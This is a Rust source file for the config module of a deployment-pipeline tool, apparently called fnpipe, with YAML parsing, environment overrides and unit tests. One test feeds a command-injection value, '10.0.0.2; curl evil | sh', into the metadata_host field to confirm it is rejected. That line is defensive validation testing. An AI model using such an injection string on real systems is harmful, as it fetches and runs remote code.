// ABOUTME: Configuration types and parsing for fnpipe.yml.
// ABOUTME: Handles YAML parsing, env var interpolation, and per-environment overrides.

mod env_value;
mod init;

pub use env_value::EnvValue;
pub use init::init_config;

use crate::error::{Error, Result};
use crate::plan::{
    BuildSettings, DeployMechanism, PlanBuilder, SourceSpec, StageLayout, validate_metadata_host,
};
use crate::types::{BucketRef, EnvName};
use serde::Deserialize;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

pub const CONFIG_FILENAME: &str = "fnpipe.yml";
pub const CONFIG_FILENAME_ALT: &str = "fnpipe.yaml";
pub const CONFIG_FILENAME_DIR: &str = ".fnpipe/config.yml";

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    pub pipeline: String,

    /// Deployment state document, relative to the config file's directory.
    pub state: PathBuf,

    pub artifact_bucket: EnvValue,

    pub source: SourceConfig,

    #[serde(default)]
    pub layout: StageLayout,

    #[serde(default)]
    pub deploy: DeployMechanism,

    #[serde(default)]
    pub build: BuildConfig,

    #[serde(default)]
    pub metadata_host: Option<EnvValue>,

    #[serde(default)]
    pub environments: BTreeMap<EnvName, EnvironmentOverride>,

    #[serde(skip)]
    base_dir: PathBuf,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SourceConfig {
    pub owner: String,
    pub repo: String,
    pub branch: EnvValue,
    /// Name of the secret holding the source-control token. Never the token itself.
    pub token_secret: String,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BuildConfig {
    #[serde(default = "default_build_image")]
    pub image: String,

    #[serde(default = "default_build_timeout", with = "humantime_serde")]
    pub timeout: Duration,

    /// Shell commands that install `fnpipe` in the build image.
    #[serde(default = "default_build_install")]
    pub install: Vec<String>,
}

impl Default for BuildConfig {
    fn default() -> Self {
        Self {
            image: default_build_image(),
            timeout: default_build_timeout(),
            install: default_build_install(),
        }
    }
}

fn default_build_image() -> String {
    BuildSettings::default().image
}

fn default_build_timeout() -> Duration {
    BuildSettings::default().timeout
}

fn default_build_install() -> Vec<String> {
    BuildSettings::default().install
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EnvironmentOverride {
    #[serde(default)]
    pub state: Option<PathBuf>,

    #[serde(default)]
    pub artifact_bucket: Option<EnvValue>,

    #[serde(default)]
    pub branch: Option<EnvValue>,

    #[serde(default)]
    pub layout: Option<StageLayout>,

    #[serde(default)]
    pub deploy: Option<DeployMechanism>,
}

/// Config values resolved for one environment, ready to drive a plan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PipelineSettings {
    pub pipeline: String,
    pub environment: EnvName,
    pub state_path: PathBuf,
    pub bucket: BucketRef,
    pub source: SourceSpec,
    pub layout: StageLayout,
    pub mechanism: DeployMechanism,
    pub build: BuildSettings,
}

impl PipelineSettings {
    pub fn plan_builder(&self) -> PlanBuilder {
        PlanBuilder::new(self.source.clone(), self.mechanism.clone()).with_build(self.build.clone())
    }
}

impl Config {
    pub fn from_yaml(yaml: &str) -> Result<Self> {
        let config: Config = serde_yaml::from_str(yaml)?;
        config.validate()?;
        Ok(config)
    }

    pub fn load(path: &Path) -> Result<Self> {
        let content = std::fs::read_to_string(path)?;
        let mut config = Self::from_yaml(&content)?;
        config.base_dir = config_base_dir(path);
        Ok(config)
    }

    pub fn discover(dir: &Path) -> Result<Self> {
        let candidates = [
            dir.join(CONFIG_FILENAME),
            dir.join(CONFIG_FILENAME_ALT),
            dir.join(CONFIG_FILENAME_DIR),
        ];

        for path in &candidates {
            if path.exists() {
                return Self::load(path);
            }
        }

        Err(Error::ConfigNotFound(dir.to_path_buf()))
    }

    fn validate(&self) -> Result<()> {
        if self.pipeline.trim().is_empty() {
            return Err(Error::InvalidConfig("pipeline name cannot be empty".to_string()));
        }
        if self.state.as_os_str().is_empty() {
            return Err(Error::InvalidConfig("state path cannot be empty".to_string()));
        }
        for (field, value) in [
            ("source.owner", &self.source.owner),
            ("source.repo", &self.source.repo),
            ("source.token_secret", &self.source.token_secret),
        ] {
            if value.trim().is_empty() {
                return Err(Error::InvalidConfig(format!("{field} cannot be empty")));
            }
        }
        Ok(())
    }

    /// Base config with the environment's overrides applied.
    pub fn for_environment(&self, env: EnvName) -> Config {
        let mut merged = self.clone();
        let Some(over) = self.environments.get(&env) else {
            return merged;
        };

        if let Some(ref state) = over.state {
            merged.state = state.clone();
        }
        if let Some(ref bucket) = over.artifact_bucket {
            merged.artifact_bucket = bucket.clone();
        }
        if let Some(ref branch) = over.branch {
            merged.source.branch = branch.clone();
        }
        if let Some(layout) = over.layout {
            merged.layout = layout;
        }
        if let Some(ref deploy) = over.deploy {
            merged.deploy = deploy.clone();
        }

        merged
    }

    /// Path of the deployment state document, resolved against the config's directory.
    pub fn state_path(&self) -> PathBuf {
        if self.state.is_absolute() {
            self.state.clone()
        } else {
            self.base_dir.join(&self.state)
        }
    }

    /// Merge overrides and resolve every env-backed value for `env`.
    pub fn settings(&self, env: EnvName) -> Result<PipelineSettings> {
        let merged = self.for_environment(env);

        let bucket = merged.artifact_bucket.resolve()?;
        if bucket.trim().is_empty() {
            return Err(Error::InvalidConfig("artifact_bucket cannot be empty".to_string()));
        }
        let branch = merged.source.branch.resolve()?;
        let metadata_host = merged
            .metadata_host
            .as_ref()
            .and_then(EnvValue::resolve_optional);
        if let Some(host) = &metadata_host {
            validate_metadata_host(host).map_err(|e| Error::InvalidConfig(e.to_string()))?;
        }

        Ok(PipelineSettings {
            pipeline: merged.pipeline.clone(),
            environment: env,
            state_path: merged.state_path(),
            bucket: BucketRef::new(bucket),
            source: SourceSpec {
                owner: merged.source.owner.clone(),
                repo: merged.source.repo.clone(),
                branch,
                token_secret: merged.source.token_secret.clone(),
            },
            layout: merged.layout,
            mechanism: merged.deploy.clone(),
            build: BuildSettings {
                image: merged.build.image.clone(),
                timeout: merged.build.timeout,
                install: merged.build.install.clone(),
                metadata_host,
            },
        })
    }
}

fn config_base_dir(path: &Path) -> PathBuf {
    let parent = path.parent().unwrap_or(Path::new(""));
    // `.fnpipe/config.yml` lives one level below the project root.
    if parent.file_name().is_some_and(|n| n == ".fnpipe") {
        parent.parent().unwrap_or(Path::new("")).to_path_buf()
    } else {
        parent.to_path_buf()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = r#"
pipeline: greeting-delivery
state: deployment-state/deployment-state.json
artifact_bucket: artifactory-bucket
source:
  owner: acme
  repo: delivery
  branch: main
  token_secret: github-token
"#;

    #[test]
    fn defaults_apply() {
        let config = Config::from_yaml(MINIMAL).unwrap();
        assert_eq!(config.layout, StageLayout::Separate);
        assert_eq!(config.deploy, DeployMechanism::DirectUpdate);
        assert_eq!(config.build.image, "standard-7.0");
        assert_eq!(config.build.timeout, Duration::from_secs(600));
        assert!(config.metadata_host.is_none());
        assert_eq!(config.build.install, vec!["cargo install --locked fnpipe"]);
    }

    #[test]
    fn injected_metadata_host_rejected() {
        let yaml = format!("{MINIMAL}metadata_host: \"10.0.0.2; curl evil | sh\"\n");
        let config = Config::from_yaml(&yaml).unwrap();
        let err = config.settings(EnvName::Dev).unwrap_err();
        assert!(
            matches!(err, Error::InvalidConfig(ref msg) if msg.contains("host[:port]")),
            "got: {err}"
        );
    }

    #[test]
    fn empty_install_list_is_kept() {
        let yaml = format!("{MINIMAL}build:\n  install: []\n");
        let settings = Config::from_yaml(&yaml).unwrap().settings(EnvName::Dev).unwrap();
        assert!(settings.build.install.is_empty());
    }

    #[test]
    fn empty_pipeline_rejected() {
        let yaml = MINIMAL.replace("greeting-delivery", "\"\"");
        assert!(matches!(Config::from_yaml(&yaml), Err(Error::InvalidConfig(_))));
    }

    #[test]
    fn unknown_field_rejected() {
        let yaml = format!("{MINIMAL}surprise: true\n");
        assert!(Config::from_yaml(&yaml).is_err());
    }

    #[test]
    fn unknown_environment_rejected() {
        let yaml = format!("{MINIMAL}environments:\n  uat:\n    layout: merged\n");
        assert!(Config::from_yaml(&yaml).is_err());
    }

    #[test]
    fn relative_state_resolves_against_config_dir() {
        let dir = tempfile::tempdir().unwrap();
        let nested = dir.path().join(".fnpipe");
        std::fs::create_dir_all(&nested).unwrap();
        std::fs::write(nested.join("config.yml"), MINIMAL).unwrap();

        let config = Config::discover(dir.path()).unwrap();
        assert_eq!(
            config.state_path(),
            dir.path().join("deployment-state/deployment-state.json")
        );
    }

    #[test]
    fn template_parses() {
        let dir = tempfile::tempdir().unwrap();
        init_config(dir.path(), Some("demo"), false).unwrap();
        let config = Config::discover(dir.path()).unwrap();
        assert_eq!(config.pipeline, "demo");
        assert_eq!(
            config.for_environment(EnvName::Prod).layout,
            StageLayout::Merged
        );
        assert_eq!(config.build.install, BuildSettings::default().install);
    }
}
